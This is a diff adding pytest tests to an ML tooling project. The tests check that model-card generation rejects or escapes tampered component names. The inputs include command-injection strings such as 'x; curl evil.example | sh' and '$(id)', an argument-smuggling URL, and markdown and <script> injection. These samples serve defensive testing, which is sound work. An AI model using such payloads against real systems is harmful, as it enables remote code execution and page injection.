@@ -17,6 +17,7 @@ import pytest
 from huggingface_hub import ModelCard, constants
 
 from modrwkv_core.cli.main import run_program
+from modrwkv_core.errors import CheckpointError
 from modrwkv_core.inference.session import load
 from modrwkv_core.interop.card import write_card
 from modrwkv_core.manifest import load_manifest
@@ -237,6 +238,28 @@ def test_the_card_says_what_the_run_is(run: RunFolder) -> None:
     assert "| align | adapter | 1 step | 0.001 |" in card.text
     assert "| forecast | 40 | mse | 0.25 kW² | 0.5 kW² |" in card.text
     assert f"modrwkv pull {REPOSITORY} runs/tiny" in card.text
+
+
+@pytest.mark.parametrize(
+    "name", ["x; curl evil.example | sh", "x`id`", "$(id)", "-r https://evil.example", "a b", "x\n```", "", None]
+)
+def test_a_lock_that_was_tampered_with_puts_nothing_into_a_command(run: RunFolder, name: object) -> None:
+    lock = json.loads(run.lock.read_text())
+    lock["components"]["encoder/wavenet"]["distribution"] = name
+    run.lock.write_text(json.dumps(lock))
+    with pytest.raises(CheckpointError, match="is not a valid name"):
+        write_card(run, REPOSITORY)
+
+
+def test_names_mean_nothing_but_themselves_in_a_card(run: RunFolder) -> None:
+    lock = json.loads(run.lock.read_text())
+    lock["components"]["encoder/wavenet"]["version"] = "1 | [x](http://evil.example)\n\n<script>"
+    run.lock.write_text(json.dumps(lock))
+    run.manifest.write_text(run.manifest.read_text().replace("name: tiny", 'name: "a; id\\n```\\n# b"'))
+    text = ModelCard.load(write_card(run, REPOSITORY)).text
+    assert r"modrwkv-wavenet 1 \| \[x\](http://evil.example) \<script\> |" in text
+    assert f"modrwkv pull {REPOSITORY} 'runs/a; id ``` # b'" in text
+    assert "\n# b" not in text
 
 
 EVALUATION = "evaluation: {forecast: {task: {type: forecast}, data: {source: csv_windows}}}"
